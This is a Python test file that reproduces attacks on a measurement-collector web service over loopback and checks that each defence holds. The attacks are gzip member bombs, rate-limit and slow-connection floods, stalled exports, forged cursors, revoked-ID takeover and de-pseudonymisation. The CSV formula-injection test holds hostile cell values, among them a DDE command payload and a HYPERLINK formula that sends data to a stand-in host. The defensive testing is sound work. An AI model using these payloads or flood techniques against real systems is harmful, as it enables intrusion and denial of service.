"""The collector under attack (issue 18): each test reproduces one attack over loopback,
bounded in count, and checks the defence holds for the whole kind of attack.

Nothing here measures time: a limit that must hold is made deterministic by rates so
slow that no token comes back while a test runs, and waiting for the server to reach
a state polls that state (a generous deadline only bounds a broken run).
"""

from __future__ import annotations

import asyncio
import gzip
import json
import socket
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import pytest

from collectors.ingest import MAX_GZIP_MEMBERS, IngestError, decode_body
from tests.collectors.conftest import Collector
from tests.collectors.samples import doc

API = "/api/v1/measurements"
#: So slow that no token is given back while a test runs.
NO_REFILL = 1e-6


def new_id() -> str:
    return str(uuid.uuid4())


def body_of(items: list[Any]) -> bytes:
    return json.dumps({"measurements": items}).encode()


def post(c: Collector, cred: str | None, data: bytes, **headers: str) -> httpx.Response:
    h = {"Content-Type": "application/json", **headers}
    if cred is not None:
        h["Authorization"] = f"Bearer {cred}"
    return c.http.post(API, content=data, headers=h)


def until(condition: Callable[[], bool], deadline: float = 20.0) -> None:
    """Wait for ``condition`` (the server's state, not a duration)."""
    end = time.monotonic() + deadline
    while not condition():
        if time.monotonic() > end:
            raise AssertionError("the server never got there")
        time.sleep(0.01)


@contextmanager
def held_upload(c: Collector, cred: str, length: int = 1000) -> Iterator[socket.socket]:
    """An upload whose headers are sent and whose body never comes."""
    host, port = c.url.removeprefix("http://").split(":")
    sock = socket.create_connection((host, int(port)), timeout=30)
    sock.sendall(
        f"POST {API} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {cred}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n{{".encode()
    )
    try:
        yield sock
    finally:
        sock.close()


# -- 1. gzip members ------------------------------------------------------------------------


def test_a_body_of_many_empty_gzip_members_is_refused_not_worked_through() -> None:
    # The attack: 2 MiB of empty members (100,000 of them) took 6.8 s, quadratic.
    body = gzip.compress(b"") * 100_000
    with pytest.raises(IngestError) as exc:
        decode_body(body, "gzip", 16 << 20)
    assert exc.value.status == 400
    assert f"more than {MAX_GZIP_MEMBERS} members" in str(exc.value)
    # Up to the cap, members are one body, whatever is in them.
    parts = [gzip.compress(b"x" * i) for i in range(MAX_GZIP_MEMBERS)]
    assert decode_body(b"".join(parts), "gzip", 1 << 20) == b"".join(
        b"x" * i for i in range(MAX_GZIP_MEMBERS)
    )


def test_one_member_larger_than_a_chunk_decodes_whole() -> None:
    data = bytes(range(256)) * 40_000  # 10 MB, incompressible enough to span many chunks
    assert decode_body(gzip.compress(data, 1), "gzip", 16 << 20) == data
    # A second member that starts in the middle of a chunk.
    two = gzip.compress(data[:70_001]) + gzip.compress(data[70_001:200_000])
    assert decode_body(two, "gzip", 16 << 20) == data[:200_000]


def test_the_member_attack_over_http_is_400_and_stores_nothing(make_collector) -> None:
    c = make_collector()
    probe_id = new_id()
    cred = c.enroll(probe_id)
    head = gzip.compress(body_of([doc(probe_id, new_id(), 0)]))
    r = post(c, cred, head + gzip.compress(b"") * 50_000, **{"Content-Encoding": "gzip"})
    assert r.status_code == 400, r.text
    assert "members" in r.json()["error"]
    assert c.count("measurements") == 0


# -- 2. every request charged ---------------------------------------------------------------


def test_made_up_credentials_are_charged_to_the_address(make_collector) -> None:
    c = make_collector(ingest_address_rate=NO_REFILL, ingest_address_burst=30, refusal_delay=0.01)
    codes = [post(c, "vpc_made-up", b"{}").status_code for _ in range(10)]
    # Each costs 1 + 10: three fit in the bucket of 30, then 429 without a lookup.
    assert codes[:3] == [401, 401, 401]
    assert set(codes[3:]) == {429}
    r = post(c, "vpc_made-up", b"{}")
    assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1


def test_failed_uploads_are_charged_to_the_probe(make_collector) -> None:
    # A batch reserves 1 + max_items = 11; a refused body keeps it all.
    c = make_collector(max_items=10, upload_rate=NO_REFILL, upload_burst=22)
    probe_id = new_id()
    cred = c.enroll(probe_id)
    assert post(c, cred, b"{not json").status_code == 400
    assert post(c, cred, b"x" * 10, **{"Content-Encoding": "gzip"}).status_code == 400
    r = post(c, cred, body_of([doc(probe_id, new_id(), 0)]))
    assert r.status_code == 429, r.text
    assert c.count("measurements") == 0


def test_a_good_batch_is_charged_what_it_held(make_collector) -> None:
    c = make_collector(max_items=10, upload_rate=NO_REFILL, upload_burst=22)
    probe_id = new_id()
    cred = c.enroll(probe_id)
    for _ in range(3):  # 3 x (1 + 2) = 9 of 22: a full batch's 11 still fit
        r = post(c, cred, body_of([doc(probe_id, new_id(), i) for i in range(2)]))
        assert r.status_code == 200, r.text
    assert post(c, cred, body_of([doc(probe_id, new_id(), 0)])).status_code == 200
    # 22 - 9 - 2 = 11 left: one more, then the bucket is below a batch.
    assert post(c, cred, body_of([doc(probe_id, new_id(), 0)])).status_code == 200
    assert post(c, cred, body_of([doc(probe_id, new_id(), 0)])).status_code == 429
    assert c.count("measurements") == 8


def test_concurrent_uploads_cannot_get_around_the_rate(make_collector) -> None:
    # The attack: 40 concurrent full batches were all accepted. Tokens are reserved
    # before a body is read, so at most burst / (1 + max_items) = 2 batches pass.
    c = make_collector(max_items=10, upload_rate=NO_REFILL, upload_burst=22, uploads_per_probe=100)
    probe_id = new_id()
    cred = c.enroll(probe_id)
    bodies = [body_of([doc(probe_id, new_id(), i) for i in range(10)]) for _ in range(12)]

    async def all_at_once() -> list[int]:
        h = {"Authorization": f"Bearer {cred}", "Content-Type": "application/json"}
        async with httpx.AsyncClient(base_url=c.url, trust_env=False, timeout=60) as client:
            answers = await asyncio.gather(
                *(client.post(API, content=b, headers=h) for b in bodies)
            )
        return [a.status_code for a in answers]

    codes = asyncio.run(all_at_once())
    assert codes.count(200) <= 2 and codes.count(200) >= 1
    assert set(codes) <= {200, 429}
    assert c.count("measurements") == 10 * codes.count(200)


def test_bodies_in_flight_are_capped_per_probe(make_collector) -> None:
    c = make_collector(uploads_per_probe=2, upload_burst=10_000)
    probe_id = new_id()
    cred = c.enroll(probe_id)
    flight = c.app.state.uploads_in_flight
    with held_upload(c, cred), held_upload(c, cred):
        until(lambda: len(flight) == 2)
        r = post(c, cred, body_of([doc(probe_id, new_id(), 0)]))
        assert r.status_code == 429, r.text
        assert "in flight" in r.json()["error"]
        other = new_id()  # another probe is not held up
        ok = post(c, c.enroll(other), body_of([doc(other, new_id(), 0)]))
        assert ok.status_code == 200, ok.text
    until(lambda: len(flight) == 0)
    assert post(c, cred, body_of([doc(probe_id, new_id(), 0)])).status_code == 200


def test_bodies_in_flight_are_capped_in_all(make_collector) -> None:
    c = make_collector(bodies_in_flight=2)
    creds = {}
    for _ in range(3):
        pid = new_id()
        creds[pid] = c.enroll(pid)
    (a, ca), (b, cb), (third, cc) = creds.items()
    flight = c.app.state.uploads_in_flight
    with held_upload(c, ca), held_upload(c, cb):
        until(lambda: len(flight) == 2)
        r = post(c, cc, body_of([doc(third, new_id(), 0)]))
        assert r.status_code == 503, r.text
        assert r.headers["Retry-After"]
    until(lambda: len(flight) == 0)
    assert post(c, cc, body_of([doc(third, new_id(), 0)])).status_code == 200


# -- 3. exports that are opened and not read -----------------------------------------------


def stalled_export(c: Collector, query: str) -> socket.socket:
    """An export asked for by a reader that never reads (a tiny receive window)."""
    host, port = c.url.removeprefix("http://").split(":")
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(30)
    sock.connect((host, int(port)))
    sock.sendall(f"GET /api/v1/export?{query} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    return sock


def test_stalled_exports_never_take_the_uploads_connections(make_collector, tmp_path) -> None:
    # The attack: nine exports opened and not read held the pool; uploads answered 503.
    c = make_collector(
        pool_size=2, export_slots=2, export_stall_timeout=2.0, export_address_burst=10,
        pseudonym_key_file=str(tmp_path / "pseudonym.key"),
    )  # fmt: skip
    owner = new_id()
    c.enroll(owner)
    run = new_id()
    c.app.state.ingestor.ingest(owner, [doc(owner, run, i) for i in range(1000)])  # ~10 MB
    slots = c.app.state.export_slots
    socks = [stalled_export(c, "format=jsonl") for _ in range(2)]
    try:
        until(lambda: slots.busy == 2)
        r = c.http.get("/api/v1/export", params={"format": "jsonl"})
        assert r.status_code == 503, r.text
        assert "exports are streaming already" in r.json()["error"]
        probe_id = new_id()
        cred = c.enroll(probe_id)
        for i in range(6):  # more than the ingest's pool holds: none waits for an export's
            up = post(c, cred, body_of([doc(probe_id, new_id(), i)]))
            assert up.status_code == 200, up.text
            assert c.http.get("/api/v1/aggregates").status_code == 200
        # The readers never read: they are cut off and the exports' connections come back.
        until(lambda: slots.busy == 0)
        until(lambda: c.app.state.export_engine.pool.checkedout() == 0)
    finally:
        for s in socks:
            s.close()
    assert c.http.get("/api/v1/export", params={"format": "csv"}).status_code == 200


def test_exports_are_pseudonymised_for_the_public(make_collector, tmp_path) -> None:
    token_file = tmp_path / "operator.token"
    c = make_collector(
        pseudonym_key_file=str(tmp_path / "pseudonym.key"), operator_token_file=str(token_file)
    )
    probe_id = new_id()
    cred = c.enroll(probe_id)
    assert post(c, cred, body_of([doc(probe_id, new_id(), 0)])).status_code == 200
    public = c.http.get("/api/v1/export", params={"format": "jsonl"})
    assert public.status_code == 200
    assert probe_id not in public.text
    refused = c.http.get("/api/v1/export", params={"format": "jsonl", "pseudonymize": "false"})
    assert refused.status_code == 403
    operator = {"Authorization": f"Bearer {token_file.read_text().strip()}"}
    mine = c.http.get(
        "/api/v1/export", params={"format": "jsonl", "pseudonymize": "false"}, headers=operator
    )
    assert mine.status_code == 200 and probe_id in mine.text


# -- 4. idle and half-sent connections -----------------------------------------------------


def connect(c: Collector, source: str = "127.0.0.1") -> socket.socket:
    host, port = c.url.removeprefix("http://").split(":")
    sock = socket.create_connection((host, int(port)), timeout=30, source_address=(source, 0))
    return sock


def closed_by_server(sock: socket.socket) -> bool:
    """Read until the server closes (b"") or sends an answer and then closes."""
    try:
        while sock.recv(4096):
            pass
    except ConnectionResetError:
        pass
    return True


def test_idle_and_half_sent_connections_do_not_count(make_collector) -> None:
    # The attack: 128 idle or half-sent connections made every request answer 503.
    c = make_collector(connections_per_address=1000, header_timeout=60, max_active_requests=128)
    held = []
    try:
        for i in range(300):
            sock = connect(c)
            if i % 2:
                sock.sendall(b"POST /api/v1/measurements HTTP/1.1\r\nHost: x\r\nAuthor")
            held.append(sock)
        for _ in range(5):
            assert c.http.get("/api/v1/health").status_code == 200
            assert c.http.get("/api/v1/aggregates").status_code == 200
    finally:
        for sock in held:
            sock.close()


def test_slow_headers_and_bodies_are_cut_off(make_collector) -> None:
    c = make_collector(header_timeout=0.5, body_timeout=0.5)
    probe_id = new_id()
    cred = c.enroll(probe_id)
    idle = connect(c)
    half = connect(c)
    half.sendall(b"GET /api/v1/health HTTP/1.1\r\nHo")
    with idle, half:
        assert closed_by_server(idle) and closed_by_server(half)
    with held_upload(c, cred) as slow:  # headers sent, the body never ends
        assert closed_by_server(slow)
    until(lambda: len(c.app.state.uploads_in_flight) == 0)
    # A keep-alive connection that sends its next request in time is served.
    with httpx.Client(base_url=c.url, trust_env=False, timeout=30) as client:
        for _ in range(3):
            assert client.get("/api/v1/health").status_code == 200


def test_one_address_cannot_hold_every_connection(make_collector) -> None:
    c = make_collector(connections_per_address=5, header_timeout=60)
    held = [connect(c, "127.0.0.2") for _ in range(5)]
    try:
        extra = connect(c, "127.0.0.2")
        with extra:
            assert closed_by_server(extra)  # the sixth from that address is refused
        other = httpx.Client(
            base_url=c.url, trust_env=False, timeout=30,
            transport=httpx.HTTPTransport(local_address="127.0.0.3"),
        )  # fmt: skip
        with other:
            assert other.get("/api/v1/health").status_code == 200
    finally:
        for sock in held:
            sock.close()


def test_requests_handled_at_once_are_capped(make_collector) -> None:
    c = make_collector(max_active_requests=2, upload_burst=10_000)
    probe_id = new_id()
    cred = c.enroll(probe_id)
    with held_upload(c, cred), held_upload(c, cred):
        until(lambda: len(c.app.state.uploads_in_flight) == 2)
        r = c.http.get("/api/v1/health")
        assert r.status_code == 503
        assert r.headers["Retry-After"] == "1" and "too many requests" in r.json()["error"]
    until(lambda: len(c.app.state.uploads_in_flight) == 0)
    assert c.http.get("/api/v1/health").status_code == 200


# -- 12. read-API parameters at the edges of the types ---------------------------------------


def cursor(when: str, uid: str = "x") -> str:
    import base64

    raw = json.dumps([when, uid]).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


EDGES_422 = [
    {"since": "0001-01-01T00:00:00+01:00"},
    {"until": "0001-01-01T00:30:00+05:00"},
    {"since": "9999-12-31T23:59:59-01:00"},
    {"until": "9999-12-31T23:00:00-02:00"},
    {"asn": "2147483648"},
    {"asn": "AS4294967295"},
]
EDGES_OK = [
    {"until": "9999-12-31"},
    {"since": "0001-01-01"},
    {"since": "0001-01-01T00:00:00Z", "until": "9999-12-31T23:59:59Z"},
    {"asn": "2147483647"},
]


@pytest.mark.parametrize("path", ["/api/v1/measurements", "/api/v1/aggregates", "/api/v1/events"])
def test_parameters_at_the_edges_are_422_or_answered_never_500(make_collector, path) -> None:
    c = make_collector()
    probe_id = new_id()
    assert post(c, c.enroll(probe_id), body_of([doc(probe_id, new_id(), 0)])).status_code == 200
    for params in EDGES_422:
        r = c.http.get(path, params=params)
        assert r.status_code == 422, (params, r.text)
        assert next(iter(params)) in r.json()["error"]
    for params in EDGES_OK:
        r = c.http.get(path, params=params)
        assert r.status_code == 200, (params, r.text)


@pytest.mark.parametrize("forged", [
    cursor("0001-01-01T00:00:00+01:00"), cursor("9999-12-31T23:59:59-05:00"),
    cursor("2024-01-01T00:00:00"), cursor("2024-01-01T00:00:00Z", "u" * 500),
    "AAAA", "!!!!", cursor("not a time"),
])  # fmt: skip
def test_a_forged_cursor_is_422(make_collector, forged) -> None:
    c = make_collector()
    r = c.http.get("/api/v1/measurements", params={"after": forged})
    assert r.status_code == 422, r.text
    assert r.json()["error"].startswith("after:")


def test_export_parameters_at_the_edges_are_422(make_collector, tmp_path) -> None:
    c = make_collector(pseudonym_key_file=str(tmp_path / "k"), export_address_burst=100)
    for params in EDGES_422:
        r = c.http.get("/api/v1/export", params={"format": "csv", **params})
        assert r.status_code == 422, (params, r.text)
    r = c.http.get("/api/v1/export", params={"format": "csv", "until": "9999-12-31"})
    assert r.status_code == 404  # nothing stored: answered, not a crash


# -- 11. a revoked probe id --------------------------------------------------------------------


def test_a_revoked_id_cannot_be_taken_over_with_any_enroll_token(make_collector) -> None:
    from collectors import auth

    c = make_collector()
    victim = new_id()
    cred = c.enroll(victim)
    run = new_id()
    assert post(c, cred, body_of([doc(victim, run, 0)])).status_code == 200
    assert auth.revoke_probe(c.engine, victim)
    listed = c.http.get("/api/v1/probes").json()["probes"]
    assert [p["revoked"] for p in listed] == [True]
    # The attack: any enroll token, the revoked id (public), then uploads into its runs.
    r = c.http.post("/api/v1/enroll", json={"token": c.enroll_token(), "probe_id": victim})
    assert r.status_code == 409, r.text
    assert "operator restores it" in r.json()["error"]
    assert c.count("measurements") == 1
    assert auth.restore_probe(c.engine, victim)  # the operator's decision
    fresh = c.enroll(victim)
    assert post(c, fresh, body_of([doc(victim, run, 1)])).status_code == 200
    assert post(c, cred, body_of([doc(victim, run, 2)])).status_code == 401  # old stays dead


# -- 9. formula injection in CSV ----------------------------------------------------------------


def test_csv_cells_cannot_carry_a_formula(make_collector, tmp_path) -> None:
    import csv as csv_module
    import io

    token = tmp_path / "operator.token"
    c = make_collector(operator_token_file=str(token))
    probe_id = new_id()
    cred = c.enroll(probe_id)
    d = doc(probe_id, new_id(), 0)
    d["service"] = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
    d["target"]["service"] = d["service"]
    d["target"]["id"] = "+cmd|' /C calc'!A0"
    d["probe_network_name"] = "@SUM(1+1)"
    r = post(c, cred, body_of([d]))
    assert r.json()["accepted"] == 1, r.text
    export = c.http.get("/api/v1/export", params={"format": "csv"},
                        headers={"Authorization": f"Bearer {token.read_text().strip()}"})  # fmt: skip
    assert export.status_code == 200
    (row,) = list(csv_module.DictReader(io.StringIO(export.text, newline="")))
    assert row["service"] == "'" + d["service"]
    assert row["target_id"] == "'" + d["target"]["id"]
    assert row["probe_network_name"] == "'@SUM(1+1)"
    dangerous = tuple("=+-@\t\r")
    for name, value in row.items():
        assert not value.startswith(dangerous), (name, value)
        for part in value.split(";"):
            assert not part.startswith(dangerous), (name, value)


# -- 10. a pseudonymised release joined back through the public API -------------------------


def test_a_pseudonymised_release_cannot_be_joined_back_to_real_probe_ids(
    make_collector, tmp_path
) -> None:
    c = make_collector(
        pseudonym_key_file=str(tmp_path / "pseudonym.key"),
        operator_token_file=str(tmp_path / "operator.token"),
    )
    probe_id = new_id()
    cred = c.enroll(probe_id)
    assert post(c, cred, body_of([doc(probe_id, new_id(), i) for i in range(3)])).status_code == 200
    operator = {"Authorization": f"Bearer {(tmp_path / 'operator.token').read_text().strip()}"}
    release = c.http.get("/api/v1/export", params={"format": "jsonl", "pseudonymize": "true"},
                         headers=operator)  # fmt: skip
    assert release.status_code == 200
    rows = [json.loads(line) for line in release.text.splitlines()]
    assert {r["probe_id"] for r in rows} != {probe_id}
    # The attack: look each released measurement up in the public read API.
    for r in rows:
        page = c.http.get("/api/v1/measurements", params={"since": "2000-01-01", "limit": 1000})
        (found,) = [d for d in page.json()["measurements"]
                    if d["measurement_uid"] == r["measurement_uid"]]  # fmt: skip
        assert found["probe_id"] == r["probe_id"]  # the same pseudonym: nothing undone
    public_text = "".join(
        c.http.get(path).text
        for path in ("/api/v1/measurements", "/api/v1/events", "/api/v1/probes")
    )
    assert probe_id not in public_text
    assert probe_id in c.http.get("/api/v1/probes", headers=operator).text  # the operator's


def test_a_flooding_address_waits_for_its_429_without_taking_a_place(make_collector) -> None:
    import threading

    c = make_collector(
        ingest_address_rate=NO_REFILL, ingest_address_burst=1, refusal_delay=10,
        max_active_requests=1,
    )  # fmt: skip
    assert post(c, "vpc_made-up", b"{}").status_code == 401  # the address's one token
    answers: list[int] = []
    held = threading.Thread(target=lambda: answers.append(post(c, "vpc_x", b"{}").status_code))
    held.start()
    count = c.app.state.requests
    until(lambda: count.aside_now == 1)
    # Held back, it is not an active request: the one place is free for others.
    assert c.http.get("/api/v1/health").status_code == 200
    held.join(60)
    assert answers == [429]
    assert count.active == 0 and count.aside_now == 0


def test_big_bodies_cost_their_address_by_the_mib(make_collector) -> None:
    # A refused body is still read to its end: 16 MiB refused again and again was the
    # costliest flood. Each request costs 1 + 1 per MiB declared (+ 10 when unknown).
    c = make_collector(ingest_address_rate=NO_REFILL, ingest_address_burst=40, refusal_delay=0.01)
    body = b" " * (8 << 20)
    codes = [post(c, "vpc_made-up", body).status_code for _ in range(4)]
    assert codes == [401, 401, 401, 429]  # 19 each: 40 -> 21 -> 2 -> -17
